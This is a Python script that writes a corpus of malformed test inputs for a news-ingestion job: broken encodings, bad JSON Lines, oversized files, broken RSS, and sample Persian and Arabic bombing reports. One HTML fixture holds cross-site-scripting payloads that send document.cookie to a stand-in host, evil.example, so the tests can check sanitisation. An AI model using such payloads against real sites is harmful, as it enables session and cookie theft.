"""Write the bad-input corpus: files the nightly job must reject clearly or read right.

Usage::

    python scripts/make_bad_inputs.py OUT_FOLDER [--big-mb 50] [--comments 10000]

The large and binary cases are generated rather than committed (the tests call
:func:`make_bad_inputs` into a temporary folder). Each file is named after its case;
:data:`FEED_CASE` and :data:`CHARREF_FEED_CASE` are RSS files, read as feed sources,
not from the inbox folder.
Everything is deterministic: the same arguments write the same bytes.
"""

from __future__ import annotations

import argparse
import json
import random
from collections.abc import Callable
from pathlib import Path

#: The RSS cases (read by a FeedSource; the inbox reader skips .xml files).
FEED_CASE = "broken-entities.xml"
CHARREF_FEED_CASE = "bad-charref.xml"

#: A good Persian page in the page-dump format (see incidents/readers/page_dump.py).
PERSIAN_PAGE = (
    " date 2025-11-14 انفجار خودرو بمب‌گذاری‌شده در حلب\n\n"
    "یک خودروی بمب‌گذاری‌شده روز پنجشنبه در حلب منفجر شد و سه نفر کشته شدند.\n\n"
    "منبع: خبرگزاری نمونه\n\n"
    "Iran (Islamic Republic of)\n"
    "ناشناس\n"
    "۰۰:۳۸ ۲۴ آبان ۱۴۰۴\n"
    "خدا رحمت کند، حلب\n"
    "۰\n"
    "۰\n"
)
#: A good Arabic page, written in windows-1256 by the cp1256 case.
ARABIC_PAGE = (
    " date 2025-11-15 انفجار سيارة مفخخة في حمص\n\n"
    "انفجرت سيارة مفخخة في مدينة حمص صباح الجمعة، ما أسفر عن مقتل أربعة أشخاص.\n\n"
    "المصدر: وكالة نموذجية\n"
)
#: Lines of the mixed-encoding JSON Lines file: (encoding, record).
MIXED_RECORDS = (
    ("utf-8", {"id": "m1", "lang": "fa", "text": "انفجار بمب در کابل دو کشته بر جای گذاشت."}),
    ("cp1256", {"id": "m2", "lang": "ar", "text": "قتل شخصان في انفجار عبوة ناسفة في الموصل."}),
    ("utf-8", {"id": "m3", "lang": "en", "text": "A roadside bomb exploded in Kandahar."}),
    ("cp1256", {"id": "m4", "lang": "fa", "text": "يک بمب در کابل منفجر شد و چهار نفر کشته شدند."}),
)
#: What the <script>, <style> and event-handler payloads hold; none may be stored.
SCRIPT_MARKERS = ("alert(", "document.cookie", "evil.example", "fetch(", "color:red", "onerror")

SCRIPT_PAGE = """<!DOCTYPE html>
<html lang="en"><head><title>Car bomb kills five in Homs</title>
<meta name="date" content="2025-11-20">
<script>document.write('<p>' + document.cookie + '</p>');
alert("A bomb exploded in Aleppo");</script>
<style>p.lead { color:red } body::after { content: "alert(1)" }</style>
<script type="module">fetch("https://evil.example/steal?c=" + document.cookie)</script>
</head>
<body onload="alert('onload')">
<nav><a href="javascript:alert(1)">Home</a> <a href="/world">World</a></nav>
<img src="x" onerror="fetch('https://evil.example/'+document.cookie)">
<svg onload="alert(document.cookie)"><script>alert("svg")</script></svg>
<article><h1>Car bomb kills five in Homs</h1>
<p class="lead">A car bomb exploded near a market in the Syrian city of Homs on Thursday,
killing five people and wounding twelve others, local officials said.</p>
<script>var hidden = "Gunmen kidnapped ten people in Raqqa"; alert(hidden);</script>
<p>Security forces sealed off the area after the blast and ambulances carried the wounded
to the main hospital of the city, witnesses told reporters at the scene.</p>
<style>.x { background: url("https://evil.example/track.png") }</style>
<p>No group claimed responsibility for the attack, the second in the city this month,
and the provincial authorities have opened an investigation into the bombing.</p>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
</article>
<noscript><img src="https://evil.example/pixel.gif"></noscript>
<script>window.onerror = function () { alert("onerror") }</script>
</body></html>
"""

BROKEN_RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Broken Feed</title>
<item><title>Shelling hits Idlib &amp villages &nbsp; &bogus;</title>
<link>https://news.example/idlib</link><guid>idlib-1</guid>
<pubDate>Fri, 21 Nov 2025 08:30:00 GMT</pubDate>
<description>Artillery shelling struck two villages in Idlib province on Friday &#xZZ; &
killing a child &copy; &lt;script&gt;alert(1)&lt;/script&gt;</description></item>
<item><title>Roads closed in Baghdad & Basra</title><guid>roads-1</guid>
<description>Authorities closed main roads in Baghdad on Saturday after a bomb exploded.
</description></item>
<item><title>Unterminated &#1
"""


def _page_comment(number: int) -> str:
    digits = str.maketrans("0123456789", "۰۱۲۳۴۵۶۷۸۹")
    stamp = f"{number // 60 % 24:02d}:{number % 60:02d} ۲۴ آبان ۱۴۰۴".translate(digits)
    text = (
        f"انفجار در دمشق؛ نظر شماره {number} درباره این خبر"
        if number % 500 == 0
        else f"نظر شماره {number}: خدا به خانواده‌ها صبر بدهد"
    )
    votes = str(number % 7).translate(digits)
    return f"Iran (Islamic Republic of)\nکاربر {number}\n{stamp}\n{text}\n{votes}\n۰\n"


def many_comments(out: Path, comments: int) -> Path:
    """A page whose article is followed by ``comments`` reader comments."""
    path = out / "many-comments.txt"
    with path.open("w", encoding="utf-8") as file:
        file.write(PERSIAN_PAGE.split("Iran (Islamic", 1)[0])
        for number in range(1, comments + 1):
            file.write(_page_comment(number))
    return path


def big_page(out: Path, size: int) -> Path:
    """A page dump of ``size`` bytes (one enormous article), written in chunks."""
    path = out / "big-page.txt"
    paragraph = ("A car bomb exploded in Homs. " * 34 + "\n\n").encode("utf-8")
    with path.open("wb") as file:
        file.write(b" date 2025-11-14 A very long page\n\n")
        written = file.tell()
        while written < size:
            written += file.write(paragraph)
    return path


def long_article(out: Path) -> Path:
    """A page of 2 MB: under the file-size limit, but one article of 1.2 million
    characters, more than extraction reads."""
    path = out / "long-article.txt"
    body = "A car bomb exploded in Homs. " * 40_000
    path.write_text(f" date 2025-11-14 A long article\n\n{body}\n", encoding="utf-8")
    return path


def big_jsonl(out: Path, size: int) -> Path:
    """JSON Lines: a good record, one record of ``size`` bytes, and a good record."""
    path = out / "big-record.jsonl"
    chunk = "A car bomb exploded in Homs. " * 1000
    with path.open("w", encoding="utf-8") as file:
        good = {"id": "before", "lang": "en", "text": "A bomb exploded in Mosul, killing two."}
        file.write(json.dumps(good) + "\n")
        file.write('{"id": "huge", "lang": "en", "text": "')
        written = 0
        while written < size:
            written += file.write(chunk)
        file.write('"}\n')
        after = {"id": "after", "lang": "en", "text": "Gunmen kidnapped two engineers in Kirkuk."}
        file.write(json.dumps(after) + "\n")
    return path


def malformed_jsonl(out: Path) -> Path:
    """Bad lines of every kind between good ones, the last line cut short."""
    good = {"id": "ok-1", "lang": "en", "text": "A suicide bomber killed six people in Kabul."}
    later = {"id": "ok-2", "lang": "en", "text": "Gunmen attacked a checkpoint in Kirkuk."}
    lines = [
        json.dumps(good),
        '{"id": "bad-1", "text": "unterminated',
        "[1, 2, 3]",
        '{"id": "bad-3", "lang": "en"}',
        '{"id": "bad-4", "text": 42}',
        '{"id": "bad-5", "text": "x", "comments": "not a list"}',
        '{"id": "bad-6", "text": "x", "lang": "de"}',
        "null",
        "\x1b[31m not json at all",
        json.dumps(later),
        '{"id": "cut", "lang": "en", "text": "A bomb exploded in Bas',
    ]
    path = out / "malformed.jsonl"
    path.write_text("\n".join(lines), encoding="utf-8")  # no newline at the end
    return path


def mixed_encodings(out: Path) -> Path:
    """JSON Lines whose lines are UTF-8 or windows-1256, one encoding a line."""
    path = out / "mixed-encodings.jsonl"
    path.write_bytes(
        b"".join(
            json.dumps(record, ensure_ascii=False).encode(encoding) + b"\r\n"
            for encoding, record in MIXED_RECORDS
        )
    )
    return path


def _write(name: str, data: bytes) -> Callable[[Path], Path]:
    def write(out: Path) -> Path:
        path = out / name
        path.write_bytes(data)
        return path

    return write


def _garbage(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


#: The small cases: name → writer.
SMALL_CASES: dict[str, Callable[[Path], Path]] = {
    "empty": _write("empty.txt", b""),
    "blank": _write("blank.jsonl", b"\n  \r\n\t\n"),
    "binary-page": _write("binary.txt", _garbage(1, 64 * 1024)),
    "binary-jsonl": _write("binary.jsonl", _garbage(2, 64 * 1024)),
    "binary-html": _write(
        "binary.html", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + _garbage(3, 4096)
    ),
    "utf16-bom": _write("utf16-bom.txt", PERSIAN_PAGE.replace("حلب", "ادلب").encode("utf-16")),
    "utf16-le": _write("utf16-le.txt", PERSIAN_PAGE.replace("حلب", "حماه").encode("utf-16-le")),
    "utf16-be-jsonl": _write(
        "utf16-be.jsonl",
        (
            json.dumps(
                {"id": "u16", "lang": "en", "text": "A bomb exploded in Tikrit, killing one."}
            )
            + "\n"
        ).encode("utf-16-be"),
    ),
    "cp1256": _write("arabic-1256.txt", ARABIC_PAGE.encode("cp1256")),
    "mixed": mixed_encodings,
    "malformed-jsonl": malformed_jsonl,
    "scripts-html": _write("scripts.html", SCRIPT_PAGE.encode("utf-8")),
    "broken-rss": _write(FEED_CASE, BROKEN_RSS.encode("utf-8")),
    "bad-charref-rss": _write(
        CHARREF_FEED_CASE,
        BROKEN_RSS.replace("&amp villages", "&#99999999; villages").encode("utf-8"),
    ),
}


def make_bad_inputs(
    out: Path, big_bytes: int = 50 * 1024 * 1024, comments: int = 10_000
) -> dict[str, Path]:
    """Write every case into ``out`` (created); return case name → file."""
    out.mkdir(parents=True, exist_ok=True)
    paths = {name: write(out) for name, write in SMALL_CASES.items()}
    paths["long-article"] = long_article(out)
    paths["big-page"] = big_page(out, big_bytes)
    paths["big-record"] = big_jsonl(out, big_bytes)
    paths["many-comments"] = many_comments(out, comments)
    return paths


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", type=Path, help="folder to write the cases into")
    parser.add_argument("--big-mb", type=int, default=50, help="size of the large cases (MB)")
    parser.add_argument("--comments", type=int, default=10_000, help="comments on the long page")
    args = parser.parse_args()
    for name, path in make_bad_inputs(args.out, args.big_mb * 1024 * 1024, args.comments).items():
        print(f"{name}: {path} ({path.stat().st_size:,} bytes)")


if __name__ == "__main__":
    main()
